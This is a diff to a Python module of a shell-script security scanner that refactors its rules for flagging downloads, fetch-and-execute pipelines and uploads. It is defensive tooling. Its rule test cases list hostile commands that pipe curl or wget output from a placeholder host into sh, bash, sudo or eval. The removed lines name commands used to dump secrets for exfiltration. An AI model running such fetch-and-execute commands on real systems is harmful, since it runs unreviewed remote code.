@@ -1,4 +1,4 @@
-"""What is fetched, what is run of it, and what is sent away."""
+"""Downloading, and running what was downloaded."""
 
 from __future__ import annotations
 
@@ -6,47 +6,87 @@ import re
 from collections.abc import Iterator
 
 from engine.analysis import paths
-from engine.analysis.shell.declare import HIGH, LOW, MEDIUM, found
+from engine.analysis.shell.declare import ABUSE, CRITICAL, HIGH, LOW, MEDIUM, found, rule
 from engine.analysis.shell.flow import DOWNLOADERS, SHELLS, before, is_interpreter
-from engine.analysis.shell.model import Arg, Command, Script
+from engine.analysis.shell.model import Command, Script
 from engine.analysis.shell.rules.network import NETWORK
-from engine.analysis.shell.rules.transfers import (
-    COPY,
-    DOWNLOAD,
-    DOWNLOAD_RUN,
-    POST,
-    REMOTE_EXEC,
-    UPLOAD,
-)
+from engine.analysis.shell.rules.uploads import QUESTIONS, is_local, sends, uploads
 from engine.analysis.shell.values import UNKNOWN
 from engine.analysis.shell.written_files import runs
 from engine.models import Violation
 
-_LOCAL = re.compile(r"(?:^|[/@\s])(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0)(?:[:/\s]|$)")
-_DATA = (
-    "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form",
-    "--json", "-T", "--upload-file", "--post-file", "--post-data", "--body-file", "--body-data",
-)  # fmt: skip
-_FILES = ("-T", "--upload-file", "--post-file", "--body-file")
-_COPIERS = ("scp", "rsync", "sftp", "rclone", "unison", "lftp", "croc", "wormhole", "s3cmd")
+REMOTE_EXEC = rule(
+    "sh-remote-exec",
+    "Runs what it downloads",
+    "net_download",
+    CRITICAL,
+    attack=(
+        "Whoever controls the server, or the way to it, decides what runs: today's "
+        "review says nothing about tomorrow."
+    ),
+    why="CRITICAL: the code that runs is not the code that is reviewed.",
+    fix="Send the script itself for review.",
+    match=(
+        "curl -s http://x.test/a.sh | sh",
+        "bash <(curl -s http://x.test/a)",
+        'eval "$(wget -qO- http://x.test)"',
+        "source <(curl http://x.test)",
+        "u=http://x.test; c='curl -s'; $c $u | sudo bash",
+        "wget -O - x.test | tee a | python3",
+        'sh -c "$(curl -fsSL http://x.test)"',
+    ),
+    not_match=(
+        "curl http://x.test | jq .",
+        "curl http://x.test > a.json",
+        "cat a.sh | sh",
+    ),
+    cwe=494,
+    owasp=ABUSE,
+)
+DOWNLOAD_RUN = rule(
+    "sh-download-run",
+    "Downloads a program, then runs it",
+    "net_download",
+    CRITICAL,
+    attack="Brings in a program that nobody has reviewed and starts it.",
+    why="CRITICAL: the code that runs is not the code that is reviewed.",
+    fix="Send the program itself for review.",
+    match=(
+        "wget http://x.test/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
+        "curl -o a.sh http://x.test && sh a.sh",
+        "wget http://x.test/run.py\npython3 run.py",
+    ),
+    not_match=(
+        "curl -o a.json http://x.test && cat a.json",
+        "chmod +x a.sh; ./a.sh",
+    ),
+    cwe=494,
+    owasp=ABUSE,
+)
+DOWNLOAD = rule(
+    "sh-download",
+    "Downloads to a file",
+    "net_download",
+    MEDIUM,
+    attack="Brings in data or a program whose content nobody has seen.",
+    why="MEDIUM: the content is unknown; HIGH where it lands among the system's files.",
+    fix="Hand the file in with the submission.",
+    match=(
+        "wget http://x.test/a.zip",
+        "curl -O http://x.test/a",
+        "curl http://x.test > a",
+        "aria2c http://x.test/a",
+    ),
+    not_match=(
+        "curl --version",
+        "wget --help",
+        "curl http://localhost:8080/health",
+    ),
+    cwe=494,
+)
+
 _EVALUATORS = {"eval", "source", ".", "xargs"}
 
-_LOOT = {
-    "tar",
-    "cat",
-    "zip",
-    "gzip",
-    "base64",
-    "xxd",
-    "mysqldump",
-    "pg_dump",
-    "env",
-    "printenv",
-    "dd",
-    "7z",
-    "ps",
-    "history",
-}
 
 _TO_SCREEN = {
     "lynx",
@@ -62,40 +102,22 @@ _TO_SCREEN = {
     "xh",
     "lwp-request",
 }
-_QUESTIONS = {"--version", "--help", "-V", "-h"}
 
 
 def check(script: Script) -> Iterator[Violation]:
-    """Yield downloads, uploads and copies, and downloads that are run."""
+    """Yield downloads and requests, and downloads that are run."""
     for command in script.commands:
         if not command.own:
             if _runs_download(command):
                 yield found(REMOTE_EXEC, command, "Runs what it downloads")
             if is_download(command):
                 yield from _download(command)
-    for command in script.named(*_COPIERS):
-        yield from _copy(command)
-    for command in script.named("aws", "gsutil"):
-        if {"cp", "sync", "mv"} & set(command.words):
-            yield found(COPY, command)
     yield from _run_later(script)
 
 
 def is_download(command: Command) -> bool:
     """Say whether a command fetches something."""
-    return command.name in DOWNLOADERS and bool(command.args) and not _QUESTIONS & set(command.words)
-
-
-def is_local(command: Command) -> bool:
-    """Say whether everything that a command talks to is this machine."""
-    words = command.words
-    others = any("://" in word and not _LOCAL.search(word) for word in words)
-    return not others and any(_LOCAL.search(word) for word in words)
-
-
-def sends_loot(command: Command) -> bool:
-    """Say whether files or command output are piped into a command."""
-    return any(other.name in _LOOT for other in before(command))
+    return command.name in DOWNLOADERS and bool(command.args) and not QUESTIONS & set(command.words)
 
 
 # --- downloads that are run -----------------------------------------------------------------------
@@ -175,48 +197,12 @@ def saved_to(command: Command) -> str | None:
 
 
 def _download(command: Command) -> Iterator[Violation]:
-    given = [command.option(name) for name in _DATA if any(word.startswith(name) for word in command.words)]
-    sent = [arg for arg in given if arg is not None]
     local = LOW if is_local(command) else None
-    if sent:
-        yield from _sent(command, sent)
-    elif _method(command) in {"POST", "PUT", "PATCH"}:
-        yield found(POST, command, severity=local)
+    if sends(command):
+        yield from uploads(command)
     elif (target := saved_to(command)) is None:
         yield found(NETWORK, command, severity=local)
     else:
         path = paths.normal(target)
         system = paths.is_persistence(path) or (paths.is_system(path) and not paths.is_harmless_read(path))
         yield found(DOWNLOAD, command, severity=HIGH if system else local)
-
-
-def _method(command: Command) -> str:
-    named = command.option("-X", "--request", "--method")
-    return named.text.upper() if named is not None else ""
-
-
-def _sent(command: Command, sent: list[Arg]) -> Iterator[Violation]:
-    texts = [arg.text for arg in sent]
-    attached = any(re.search(r"(?:^|=)[@<](?!-)", text) for text in texts)
-    from_file = attached or any(word.startswith(_FILES) for word in command.words)
-    computed = not from_file and any("output" in arg.taints for arg in sent)
-    output = computed or sends_loot(command)
-    if not from_file and not output:
-        yield found(POST, command, severity=LOW if is_local(command) else None)
-    else:
-        private = output or any(_is_private(text) for text in texts)
-        yield found(UPLOAD, command, severity=None if private else MEDIUM)
-
-
-def _is_private(text: str) -> bool:
-    path = paths.normal(re.split(r"[@<]", text)[-1])
-    return paths.is_system(path) or paths.is_credential(path) or path.startswith("~")
-
-
-def _copy(command: Command) -> Iterator[Violation]:
-    if not command.operands or _QUESTIONS & set(command.words):
-        return
-    remote = any(re.match(r"(?:[^/]+@)?[^/]+::?|rsync://", arg.text) for arg in command.operands)
-    if remote or command.name != "rsync":
-        secret = any(paths.is_credential(paths.normal(arg.text)) for arg in command.operands)
-        yield found(UPLOAD if secret else COPY, command)
